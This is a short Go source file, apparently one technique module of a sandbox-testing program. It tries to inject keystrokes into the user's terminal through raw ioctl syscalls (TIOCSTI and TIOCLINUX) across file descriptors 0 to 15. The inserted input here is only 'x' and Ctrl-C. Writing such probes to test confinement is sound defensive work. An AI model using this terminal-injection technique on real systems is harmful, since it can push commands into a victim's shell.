package main

import (
	"example.com/hostile/attack"
)

func init() { techniques["terminal"] = tryTerminal }

// tryTerminal inserts input into the user's terminal (TIOCSTI, TIOCLINUX).
func tryTerminal() {
	for _, way := range attack.Ways {
		for fd := range uintptr(16) {
			way(16, fd, 0x5412, attack.String("x"), 0, 0, 0)
			way(16, fd, 0x541c, attack.String("\x03"), 0, 0, 0)
		}
	}
}
